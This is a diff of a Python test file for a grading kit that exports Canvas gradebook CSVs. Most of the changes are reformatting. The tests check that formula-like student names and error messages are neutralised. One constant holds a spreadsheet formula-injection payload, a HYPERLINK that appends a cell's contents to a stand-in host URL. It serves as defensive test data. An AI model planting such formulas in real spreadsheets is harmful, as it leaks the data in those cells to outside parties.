@@ -1,4 +1,5 @@
 """Every CSV the kit writes is safe to open in a spreadsheet; Canvas gets a gradebook it imports."""
+
 import csv
 import io
 
@@ -12,9 +13,17 @@ EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
 
 
 def result(student: str, maxpool: float, conv: float = 12.0, error: str | None = None) -> dict:
-    return {"schema": 1, "student": student, "score": maxpool + conv, "max_score": 23.0, "error": error,
-            "exercises": [{"id": "06_conv_shapes", "score": float(conv), "max_score": 12.0, "checks": []},
-                          {"id": "07_maxpool", "score": float(maxpool), "max_score": 11.0, "checks": []}]}
+    return {
+        "schema": 1,
+        "student": student,
+        "score": maxpool + conv,
+        "max_score": 23.0,
+        "error": error,
+        "exercises": [
+            {"id": "06_conv_shapes", "score": float(conv), "max_score": 12.0, "checks": []},
+            {"id": "07_maxpool", "score": float(maxpool), "max_score": 11.0, "checks": []},
+        ],
+    }
 
 
 def rows(text: str) -> list[list[str]]:
@@ -43,7 +52,15 @@ def test_an_error_message_starting_with_a_formula_is_neutralised():
 def test_without_a_roster_canvas_gets_the_folder_as_student_and_login_id():
     export = canvas.canvas_csv([result("alice", 9), result(EVIL, 11)])
     table = rows(export.text)
-    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "06_conv_shapes", "07_maxpool"]
+    assert table[0] == [
+        "Student",
+        "ID",
+        "SIS User ID",
+        "SIS Login ID",
+        "Section",
+        "06_conv_shapes",
+        "07_maxpool",
+    ]
     assert ["alice", "", "", "alice", "", "12.0", "9.0"] in table
     assert ["'" + EVIL, "", "", "'" + EVIL, "", "12.0", "11.0"] in table
 
@@ -74,16 +91,27 @@ def test_the_roster_is_read_from_canvas_gradebook_export(roster):
 def test_folders_named_after_login_or_sis_ids_match_and_existing_assignment_columns_are_reused(roster):
     export = canvas.canvas_csv([result("ada", 9), result("S-2", 11), result("mallory", 0)], roster)
     table = rows(export.text)
-    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "06_conv_shapes",
-                        "07_maxpool (4242)"]
-    assert sorted(table[1:]) == [["Lovelace, Ada", "101", "S-1", "ada", "Sec A", "12.0", "9.0"],
-                                 ["Turing, Alan", "102", "S-2", "aturing", "Sec B", "12.0", "11.0"]]
+    assert table[0] == [
+        "Student",
+        "ID",
+        "SIS User ID",
+        "SIS Login ID",
+        "Section",
+        "06_conv_shapes",
+        "07_maxpool (4242)",
+    ]
+    assert sorted(table[1:]) == [
+        ["Lovelace, Ada", "101", "S-1", "ada", "Sec A", "12.0", "9.0"],
+        ["Turing, Alan", "102", "S-2", "aturing", "Sec B", "12.0", "11.0"],
+    ]
     assert len(export.left_out) == 1 and export.left_out[0].startswith("mallory: no roster row")
 
 
 def test_a_folder_column_maps_arbitrary_folder_names(tmp_path):
     path = tmp_path / "roster.csv"
-    path.write_text("Student,ID,SIS Login ID,Section,Folder\nHopper Grace,103,grace,A,team-7\n", encoding="utf-8")
+    path.write_text(
+        "Student,ID,SIS Login ID,Section,Folder\nHopper Grace,103,grace,A,team-7\n", encoding="utf-8"
+    )
     table = rows(canvas.canvas_csv([result("team-7", 4)], canvas.read_roster(path)).text)
     assert table[1][:4] == ["Hopper Grace", "103", "grace", "A"]
 
